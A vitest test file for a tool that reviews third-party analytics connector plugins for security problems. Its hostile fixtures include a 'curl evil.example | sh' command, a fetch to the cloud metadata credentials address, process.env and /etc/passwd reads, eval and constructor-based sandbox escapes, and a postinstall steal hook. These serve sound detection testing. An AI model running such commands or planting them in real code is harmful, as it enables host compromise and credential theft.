import { existsSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { join } from "node:path";
import { writeTarGz, writeZip } from "@connectors/harness";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { runReviewCli } from "../run-review-cli.ts";
import { createFixtureRepo, type FixtureRepo } from "../testing/create-fixture-repo.ts";
import { createTempPackages } from "../testing/temp-packages.ts";
import { reviewSource } from "./review-source.ts";
import { SourceReviewError } from "./source-review-error.ts";

const manifest = (extra: object = {}) => JSON.stringify({ name: "Acme Sync", description: "Sends events to Acme.", main: "index.ts", allowedHosts: ["api.acme.example"], config: [{ key: "apiKey", name: "API key", type: "string", secret: true, required: true, hint: "h" }], ...extra }, null, 2);
const pkg = (extra: object = {}) => JSON.stringify({ name: "posthog-acme-sync-plugin", version: "1.2.0", description: "Sends events to Acme.", license: "MIT", author: "Acme", ...extra }, null, 2);
const CLEAN_INDEX = `export async function onEvent(event: any, { config, fetch }: any) {
  await fetch("https://api.acme.example/v1/track", { method: "POST", body: JSON.stringify({ event: event.event }), headers: { authorization: \`Bearer \${config.apiKey}\` }, signal: AbortSignal.timeout(10_000) });
}
`;

let repo: FixtureRepo;
const packages = createTempPackages();
const outside = (files: Record<string, string>) => packages.write(files);
afterEach(() => {
  repo?.cleanup();
  packages.cleanup();
});

/** Packs `files` as an npm tarball (entries under `package/`) into a temp folder outside the repository. */
function tarballOutside(files: Record<string, string>): string {
  const tgz = join(outside({}), "posthog-acme-sync-plugin-1.2.0.tgz");
  writeFileSync(tgz, writeTarGz(Object.fromEntries(Object.entries(files).map(([path, text]) => [`package/${path}`, text]))));
  return tgz;
}

async function cli(args: string[]) {
  let out = "";
  let err = "";
  const code = await runReviewCli(args, { stdout: (text) => (out += text), stderr: (text) => (err += text), cwd: repo.root, env: {} });
  return { code, out, err };
}

/** Hostile connectors, each submitted from outside the repository (the hostile suite's shapes). */
const HOSTILE: [string, Record<string, string>, string][] = [
  ["runs child_process", { "index.ts": `import { execSync } from "node:child_process";\nexport function setupPlugin() { execSync("curl evil.example | sh"); }` }, "security/forbidden-modules"],
  ["escapes through constructor.constructor", { "index.ts": `export function processEvent(e: any) { const p = this.constructor.constructor("return process")(); return e; }` }, "security/no-eval"],
  ["fetches the cloud metadata address", { "index.ts": `export async function setupPlugin({ fetch }: any) { await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/", { signal: AbortSignal.timeout(1000) }); }` }, "security/network-hosts"],
  ["reads the host environment", { "index.ts": `export function setupPlugin(meta: any) { meta.global.keys = process.env; }` }, "security/no-process-access"],
  ["evaluates code", { "index.ts": `export function processEvent(e: any) { return eval(e.properties.code); }` }, "security/no-eval"],
  ["imports a computed module", { "index.ts": `export async function setupPlugin() { await import(["node", "fs"].join(":")); }` }, "security/no-dynamic-import"],
  ["reaches process through globalThis", { "index.ts": `export function setupPlugin(meta: any) { meta.global.p = globalThis["pro" + "cess"]; }` }, "security/no-process-access"],
  ["requires fs by a computed name", { "index.ts": `export function setupPlugin(meta: any) { meta.global.f = require("f" + "s").readFileSync("/etc/passwd", "utf8"); }` }, "security/forbidden-modules"],
  ["ships an install script", { "index.ts": CLEAN_INDEX, "package.json": pkg({ scripts: { postinstall: "node steal.js" } }) }, "security/new-dependencies"],
  ["grows memory on every event", { "index.ts": `const seen: any[] = [];\nexport function processEvent(e: any) { seen.push(e); return e; }` }, "security/unbounded-allocation"],
  ["compiles a payload from its README", { "index.ts": `import text from "./README.md" with { type: "text" };\nconst F = Object.getPrototypeOf(async () => {}).constructor;\nexport async function setupPlugin() { await F(text)(); }`, "README.md": "globalThis.process.exit(1)" }, "security/package-files"],
];

describe("reviewSource: connectors from outside the repository", () => {
  it("reviews a clean connector directory as plugins/<slug>, a new connector, with no errors", async () => {
    repo = createFixtureRepo();
    const dir = outside({ "plugin.json": manifest(), "package.json": pkg(), "index.ts": CLEAN_INDEX });
    const report = await reviewSource(dir, { cwd: repo.root });
    expect(report.source).toContain(dir);
    expect(report.connectors.map((c) => [c.slug, c.dir, c.status])).toEqual([["acme-sync", "plugins/acme-sync", "added"]]);
    expect(report.connectors[0]!.findings.filter((f) => f.severity === "error")).toEqual([]);
    expect(report.notices[0]).toMatch(/^Reviewed from outside this repository .* as `plugins\/acme-sync`, a new connector\. Nothing of it ran on this machine\.$/);
  });

  it.each(HOSTILE)("flags a connector that %s (exit 1, never 'ready')", async (_name, files, rule) => {
    repo = createFixtureRepo();
    const dir = outside({ "plugin.json": manifest(), "package.json": pkg(), ...files });
    const { code, out } = await cli([dir, "--json"]);
    expect(code).toBe(1);
    const report = JSON.parse(out);
    expect(report.connectors[0].findings.filter((f: { severity: string }) => f.severity === "error").map((f: { rule: string }) => f.rule)).toContain(rule);
  });

  it("reviews a clean local .tgz (npm pack layout) as plugins/<slug> with exit 0", async () => {
    repo = createFixtureRepo();
    const tgz = tarballOutside({ "plugin.json": manifest(), "package.json": pkg(), "index.ts": CLEAN_INDEX });
    const { code, out, err } = await cli([tgz, "--json"]);
    expect(err).toBe("");
    expect(code).toBe(0);
    const report = JSON.parse(out);
    expect(report.source).toContain(tgz);
    expect(report.connectors.map((c: { slug: string; dir: string; status: string }) => [c.slug, c.dir, c.status])).toEqual([["acme-sync", "plugins/acme-sync", "added"]]);
    expect(report.totals.error).toBe(0);
    expect(await cli([tgz])).toMatchObject({ code: 0, out: expect.stringContaining("✅ ready for a maintainer") });
  });

  it("flags a hostile local .tgz (child_process, fetch to the metadata address) with exit 1 and its findings", async () => {
    repo = createFixtureRepo();
    const canary = join(outside({}), "ran-on-the-host");
    const index = `import { execSync } from "node:child_process";
import { writeFileSync } from "node:fs";
writeFileSync(${JSON.stringify(canary)}, "the review evaluated this module");
export async function setupPlugin({ fetch }: any) {
  execSync("curl evil.example | sh");
  await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/", { signal: AbortSignal.timeout(1000) });
}
`;
    const tgz = tarballOutside({ "plugin.json": manifest(), "package.json": pkg(), "index.ts": index });
    const json = await cli([tgz, "--json"]);
    expect(json.code).toBe(1);
    const errors = JSON.parse(json.out).connectors[0].findings.filter((f: { severity: string }) => f.severity === "error");
    expect(errors).toEqual(expect.arrayContaining([
      expect.objectContaining({ rule: "security/forbidden-modules", file: expect.stringMatching(/index\.ts$/) }),
      expect.objectContaining({ rule: "security/network-hosts", message: expect.stringContaining("169.254.169.254") }),
    ]));
    const text = await cli([tgz]);
    expect(text.code).toBe(1);
    expect(text.out).toContain("security/forbidden-modules");
    expect(text.out).toContain("169.254.169.254");
    expect(text.out).toContain("❌ changes needed");
    expect(existsSync(canary)).toBe(false);
  });

  it("refuses a directory whose file links outside it with exit 2, naming the source and the file", async () => {
    repo = createFixtureRepo();
    const dir = outside({ "plugin.json": manifest(), "package.json": pkg(), "index.ts": CLEAN_INDEX });
    symlinkSync("/etc/hostname", join(dir, "notes.md"));
    const { code, out, err } = await cli([dir]);
    expect(code).toBe(2);
    expect(out).toBe("");
    expect(err).toContain(`Cannot review ${dir}`);
    expect(err).toContain("notes.md");
  });

  it("says a folder without plugin.json is not a connector (exit 2)", async () => {
    repo = createFixtureRepo();
    const dir = outside({ "index.ts": CLEAN_INDEX });
    const { code, err } = await cli([dir]);
    expect(code).toBe(2);
    expect(err).toMatch(/^error: Cannot review .*plugin\.json/);
  });

  it("compares with the published connector of the same slug on main (capability change)", async () => {
    repo = createFixtureRepo({ "plugins/acme-sync/plugin.json": manifest(), "plugins/acme-sync/package.json": pkg(), "plugins/acme-sync/index.ts": CLEAN_INDEX });
    const dir = outside({ "plugin.json": manifest({ allowedHosts: ["api.acme.example", "collect.other.example"] }), "package.json": pkg({ version: "1.3.0" }), "index.ts": `${CLEAN_INDEX}export async function runEveryMinute() {}\n` });
    const report = await reviewSource(dir, { cwd: repo.root });
    expect(report.connectors[0]!.status).toBe("modified");
    expect(report.connectors[0]!.findings.find((f) => f.rule === "manifest/capability-change")?.message).toMatch(/egress to `collect\.other\.example`; new scheduled tasks `runEveryMinute`/);
  });

  it("throws SourceReviewError for a source that is nothing it can read", async () => {
    repo = createFixtureRepo();
    await expect(reviewSource("not a source at all", { cwd: repo.root })).rejects.toBeInstanceOf(SourceReviewError);
  });
});

describe("reviewSource: npm, GitHub and GitLab sources (loopback fakes)", () => {
  let server: Server;
  let base = "";
  const files = { "plugin.json": manifest(), "package.json": pkg(), "index.ts": CLEAN_INDEX };
  const hostile = { ...files, "index.ts": `export function setupPlugin(meta: any) { meta.global.env = globalThis["pro" + "cess"].env; }` };
  const prefixed = (prefix: string, tree: Record<string, string>) => Object.fromEntries(Object.entries(tree).map(([path, text]) => [`${prefix}/${path}`, text]));

  beforeAll(async () => {
    const routes = new Map<string, Buffer | string>([
      ["/posthog-acme-sync-plugin", JSON.stringify({ "dist-tags": { latest: "1.2.0" }, versions: { "1.2.0": { dist: { tarball: "TARBALL" } } } })],
      ["/tarballs/posthog-acme-sync-plugin-1.2.0.tgz", writeTarGz(prefixed("package", hostile))],
      ["/acme/acme-sync/archive/main.zip", writeZip(prefixed("acme-sync-main", files))],
      ["/acme/connectors/-/archive/v1/connectors-v1.tar.gz", writeTarGz(prefixed("connectors-v1", prefixed("acme-sync", hostile)))],
      ["/acme/huge/archive/HEAD.zip", Buffer.alloc(2 * 1024 * 1024, 1)],
    ]);
    server = createServer((req, res) => {
      let body = routes.get(req.url ?? "");
      if (typeof body === "string") body = Buffer.from(body.replace("TARBALL", `${base}/tarballs/posthog-acme-sync-plugin-1.2.0.tgz`));
      res.statusCode = body ? 200 : 404;
      res.end(body ?? "not found");
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    base = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it("flags a hostile npm package version", async () => {
    repo = createFixtureRepo();
    const report = await reviewSource("posthog-acme-sync-plugin@1.2.0", { cwd: repo.root, npmRegistry: base });
    expect(report.source).toMatch(/posthog-acme-sync-plugin@1\.2\.0/);
    expect(report.connectors[0]!.findings.filter((f) => f.severity === "error").map((f) => f.rule)).toContain("security/no-process-access");
  });

  it("passes a clean GitHub repository at a ref", async () => {
    repo = createFixtureRepo();
    const report = await reviewSource("https://github.com/acme/acme-sync/tree/main", { cwd: repo.root, githubUrl: base });
    expect(report.totals.error).toBe(0);
    expect(report.connectors[0]!.dir).toBe("plugins/acme-sync");
  });

  it("flags a hostile connector in a GitLab monorepo folder", async () => {
    repo = createFixtureRepo();
    const report = await reviewSource("https://gitlab.com/acme/connectors/-/tree/v1/acme-sync", { cwd: repo.root, gitlabUrl: base });
    expect(report.totals.error).toBeGreaterThan(0);
  });

  it("cannot fetch a missing package or an archive over the limits: SourceReviewError naming source and cause", async () => {
    repo = createFixtureRepo();
    await expect(reviewSource("posthog-missing-plugin@1.0.0", { cwd: repo.root, npmRegistry: base })).rejects.toThrow(/^Cannot review posthog-missing-plugin@1\.0\.0: .*404/);
    await expect(reviewSource("https://github.com/acme/huge", { cwd: repo.root, githubUrl: base, limits: { maxDownloadBytes: 1024 * 1024 } } as never)).rejects.toThrow(/^Cannot review https:\/\/github\.com\/acme\/huge: .*(limit|bytes)/);
  });
});
